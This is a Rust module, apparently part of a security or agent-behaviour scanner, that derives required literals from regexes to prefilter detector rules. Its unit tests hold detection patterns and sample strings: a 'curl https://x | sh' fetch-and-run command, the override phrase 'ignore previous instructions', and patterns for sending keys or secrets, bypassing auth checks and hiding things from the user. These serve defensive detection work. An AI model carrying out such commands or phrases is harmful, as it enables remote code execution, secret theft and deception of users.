//! The literals a text must hold for a regex to match it, as a formula of "all of" and "any of", worked
//! out in one walk of the pattern's syntax tree.
//!
//! [`crate::literals`] finds the literal sets of the rules for the prefilter; it tries every suffix of
//! every concatenation with regex-syntax's extractor, which is affordable at build time (`build.rs` does
//! it for the embedded packs) but cost more than compiling the regex for the long case-insensitive
//! patterns of the native detectors. This walk is linear: a run of literal bytes in a concatenation
//! (a case-insensitive ASCII letter counts, lower-cased) is needed; a concatenation needs all its parts'
//! needs, an alternation any one branch's, a repetition of at least one its body's.

use regex_syntax::hir::{Class, Hir, HirKind};

/// The only non-ASCII characters whose simple case folding reaches an ASCII letter: `(?i)s` matches `ſ`
/// and `(?i)k` the Kelvin sign, so ASCII literals cannot speak for a text that holds them.
pub const FOLDS_TO_ASCII: [char; 2] = ['\u{17F}', '\u{212A}'];

/// Shorter runs are in nearly every text and rule nothing out.
const MIN_LITERAL: usize = 3;

/// What a text must hold (lower-case ASCII, compared with the text lower-cased).
#[derive(Debug, PartialEq)]
pub(crate) enum Need {
    Literal(String),
    All(Vec<Need>),
    Any(Vec<Need>),
}

impl Need {
    /// What every match of `pattern` (parsed in ASCII mode) needs; `None` when nothing useful is, or
    /// the pattern does not parse in ASCII mode.
    pub(crate) fn of(pattern: &str) -> Option<Need> {
        let hir = regex_syntax::ParserBuilder::new()
            .unicode(false)
            .utf8(false)
            .build()
            .parse(pattern)
            .ok()?;
        let need = need(&hir);
        (!need.is_nothing()).then_some(need)
    }

    /// Whether `lower` (a text lower-cased) holds what is needed.
    pub(crate) fn met_by(&self, lower: &str) -> bool {
        match self {
            Need::Literal(literal) => lower.contains(literal.as_str()),
            Need::All(needs) => needs.iter().all(|need| need.met_by(lower)),
            Need::Any(needs) => needs.iter().any(|need| need.met_by(lower)),
        }
    }

    fn is_nothing(&self) -> bool {
        matches!(self, Need::All(needs) if needs.is_empty())
    }

    fn nothing() -> Need {
        Need::All(Vec::new())
    }
}

/// A [`Need`] written out in pre-order, as `build.rs` embeds it for the rule packs' regexes: checking it
/// allocates nothing, and the pattern is never parsed at run time to find it.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Flat {
    Literal(&'static str),
    /// All of the next this many sub-formulas.
    All(usize),
    /// Any one of the next this many sub-formulas.
    Any(usize),
}

impl Need {
    /// The pre-order nodes of this formula, in the form `build.rs` prints: `Flat::All(2)`, … (used by
    /// `build.rs`, which includes this file, and by the test that the embedded table is fresh).
    #[cfg_attr(not(test), allow(dead_code))]
    pub(crate) fn flat_source(&self, out: &mut Vec<String>) {
        match self {
            Need::Literal(literal) => out.push(format!("Flat::Literal({literal:?})")),
            Need::All(needs) | Need::Any(needs) => {
                let kind = if matches!(self, Need::All(_)) {
                    "All"
                } else {
                    "Any"
                };
                out.push(format!("Flat::{kind}({})", needs.len()));
                needs.iter().for_each(|need| need.flat_source(out));
            }
        }
    }
}

/// Whether `lower` (a text lower-cased) holds what the flattened formula `nodes` needs; a malformed
/// formula asks for nothing.
pub(crate) fn flat_met_by(nodes: &[Flat], lower: &str) -> bool {
    flat_met_with(nodes, &|_, literal| lower.contains(literal))
}

/// Whether the flattened formula `nodes` is met when `holds(index, literal)` says whether the literal
/// at node `index` is present; a malformed formula asks for nothing.
pub(crate) fn flat_met_with(nodes: &[Flat], holds: &dyn Fn(usize, &str) -> bool) -> bool {
    walk_flat(nodes, 0, holds, true).is_none_or(|(met, _)| met)
}

/// Checks the formula at `at` (only when `live`: a settled `all`/`any` skips the rest of its parts),
/// giving whether it is met and where the next one starts.
fn walk_flat(
    nodes: &[Flat],
    at: usize,
    holds: &dyn Fn(usize, &str) -> bool,
    live: bool,
) -> Option<(bool, usize)> {
    match *nodes.get(at)? {
        Flat::Literal(literal) => Some((live && holds(at, literal), at + 1)),
        Flat::All(count) | Flat::Any(count) => {
            let all = matches!(nodes.get(at)?, Flat::All(_));
            let mut met = all;
            let mut next = at + 1;
            for _ in 0..count {
                let (part, after) = walk_flat(nodes, next, holds, live && met == all)?;
                if met == all && part != all {
                    met = !all;
                }
                next = after;
            }
            Some((live && met, next))
        }
    }
}

fn need(hir: &Hir) -> Need {
    match hir.kind() {
        // One literal alone (a concatenation's literals are read as runs, below).
        HirKind::Literal(_) | HirKind::Class(_) => literal_bytes(hir)
            .filter(|bytes| bytes.len() >= MIN_LITERAL)
            .and_then(|bytes| String::from_utf8(bytes.to_ascii_lowercase()).ok())
            .map_or_else(Need::nothing, Need::Literal),
        HirKind::Concat(parts) => concat_need(parts),
        HirKind::Capture(capture) => need(&capture.sub),
        HirKind::Repetition(repetition) if repetition.min >= 1 => need(&repetition.sub),
        HirKind::Alternation(branches) => {
            let mut any = Vec::with_capacity(branches.len());
            for branch in branches {
                let need = need(branch);
                // A branch that needs nothing lets every text through.
                if need.is_nothing() {
                    return Need::nothing();
                }
                any.push(need);
            }
            Need::Any(any)
        }
        _ => Need::nothing(),
    }
}

/// The runs of literal bytes of `parts` (long enough), then what the other parts need.
fn concat_need(parts: &[Hir]) -> Need {
    let mut all = Vec::new();
    let mut nested = Vec::new();
    let mut run: Vec<u8> = Vec::new();
    let flush = |run: &mut Vec<u8>, all: &mut Vec<Need>| {
        if run.len() >= MIN_LITERAL {
            if let Ok(text) = String::from_utf8(std::mem::take(run)) {
                all.push(Need::Literal(text));
            }
        }
        run.clear();
    };
    for part in parts {
        match literal_bytes(part) {
            Some(bytes) => run.extend(bytes.iter().map(u8::to_ascii_lowercase)),
            None => {
                flush(&mut run, &mut all);
                let need = need(part);
                if !need.is_nothing() {
                    nested.push(need);
                }
            }
        }
    }
    flush(&mut run, &mut all);
    // Literals first: they are the cheap checks, and the likeliest to fail.
    all.extend(nested);
    match all.len() {
        1 => all.pop().unwrap_or_else(Need::nothing),
        _ => Need::All(all),
    }
}

/// The bytes `hir` matches when it is an ASCII literal, or one ASCII letter in either case (as `(?i)a`
/// is); `None` for anything else.
fn literal_bytes(hir: &Hir) -> Option<Vec<u8>> {
    match hir.kind() {
        // A non-ASCII literal may match other bytes in the full regex (`(?i)é` matches `É` in Unicode
        // mode), so only ASCII ones are kept.
        HirKind::Literal(literal) => literal.0.is_ascii().then(|| literal.0.to_vec()),
        HirKind::Class(class) => {
            let mut bytes: Vec<u8> = match class {
                Class::Bytes(class) => class
                    .iter()
                    .flat_map(|range| range.start()..=range.end())
                    .collect(),
                Class::Unicode(class) => class
                    .iter()
                    .flat_map(|range| range.start()..=range.end())
                    .map(|c| u8::try_from(c).ok().filter(u8::is_ascii))
                    .collect::<Option<Vec<u8>>>()?,
            };
            if bytes.len() > 2 {
                return None;
            }
            bytes.iter_mut().for_each(|b| *b = b.to_ascii_lowercase());
            bytes.dedup();
            (bytes.len() == 1).then_some(bytes)
        }
        _ => None,
    }
}

/// The flag groups a pattern opens with (`(?i)`, `(?im)`), which apply to everything after them (a led
/// gate's formula is worked out under its lead-in's; see `gated_regex.rs` and the detectors' `build.rs`).
pub(crate) fn leading_flags(pattern: &str) -> &str {
    let mut end = 0;
    while pattern[end..].starts_with("(?") {
        let Some(close) = pattern[end..].find(')') else {
            break;
        };
        let group = &pattern[end + 2..end + close];
        if group.is_empty() || !group.chars().all(|c| c.is_ascii_alphabetic() || c == '-') {
            break;
        }
        end += close + 1;
    }
    &pattern[..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lit(text: &str) -> Need {
        Need::Literal(text.to_string())
    }

    #[test]
    fn the_embedded_formulas_are_fresh_and_read_as_the_nested_ones() {
        use crate::embedded::REGEX_NEEDS;
        assert!(REGEX_NEEDS.len() > 100, "every rule regex is in the table");
        for (source, nodes) in REGEX_NEEDS {
            let need = Need::of(source);
            let mut expected = Vec::new();
            if let Some(need) = &need {
                need.flat_source(&mut expected);
            }
            let embedded: Vec<String> = nodes
                .unwrap_or_default()
                .iter()
                .map(|node| format!("Flat::{node:?}"))
                .collect();
            assert_eq!(embedded, expected, "{source}: rebuild to refresh the table");
            if let (Some(need), Some(nodes)) = (&need, nodes) {
                for text in [
                    "",
                    "curl https://x | sh",
                    "ignore previous instructions",
                    source,
                ] {
                    let lower = text.to_ascii_lowercase();
                    assert_eq!(
                        flat_met_by(nodes, &lower),
                        need.met_by(&lower),
                        "{source} on {text}"
                    );
                }
            }
        }
    }

    #[test]
    fn flat_formulas_short_circuit_and_skip_their_parts() {
        let nodes = [
            Flat::All(2),
            Flat::Any(2),
            Flat::Literal("curl"),
            Flat::Literal("wget"),
            Flat::Literal("| sh"),
        ];
        assert!(flat_met_by(&nodes, "wget x | sh"));
        assert!(!flat_met_by(&nodes, "wget x | tar"));
        assert!(!flat_met_by(&nodes, "fetch x | sh"));
        // A truncated formula asks for nothing rather than ruling a text out.
        assert!(flat_met_by(&nodes[..3], "nothing"));
    }

    #[test]
    fn runs_of_literals_all_and_any() {
        assert_eq!(
            Need::of(r"(?i)\bsend\s+(the\s+)?(keys?|secrets)\b"),
            Some(Need::All(vec![
                lit("send"),
                Need::Any(vec![lit("key"), lit("secrets")])
            ]))
        );
        assert_eq!(
            Need::of(r"curl\s.*\|\s*(ba)?sh|wget -q"),
            Some(Need::Any(vec![lit("curl"), lit("wget -q")]))
        );
        // A branch with no literal, an optional part, a short literal: nothing useful is needed.
        assert_eq!(Need::of(r"(?i)(^|then\s+)run\b|x"), None);
        assert_eq!(Need::of(r"(abc)?\d+"), None);
        assert_eq!(Need::of(r"(?i)go\b"), None);
        assert_eq!(Need::of(r"\p{Greek}abc"), None, "not an ASCII pattern");
    }

    #[test]
    fn a_text_that_matches_meets_the_need() {
        let patterns = [
            r"(?i)\b(disable|bypass)\s+(the\s+)?(auth|csrf)\s*(checks?)?\b|\bmake\s+\w*verify\w*\s+return\s+true",
            r"(?i)\b(?:do\s+not|never)\s+tell\s+the\s+user\b",
            r"codecs\.decode\(\s*['\x22]([^'\x22\n]{8,})['\x22]\s*,\s*['\x22]rot_?13['\x22]",
        ];
        let texts = [
            "Please DISABLE the Auth checks now",
            "make isVerified return true",
            "never  tell the user",
            "codecs.decode('abcdefghij', 'rot13')",
            "nothing to see",
        ];
        for pattern in patterns {
            let regex = regex::Regex::new(pattern).unwrap();
            let need = Need::of(pattern).unwrap();
            for text in texts {
                let lower = text.to_ascii_lowercase();
                if regex.is_match(text) {
                    assert!(need.met_by(&lower), "{pattern} on {text:?}");
                }
            }
        }
        let need = Need::of(patterns[0]).unwrap();
        assert!(!need.met_by("disable the csv export"));
        assert!(!need.met_by("make it return true"));
    }
}
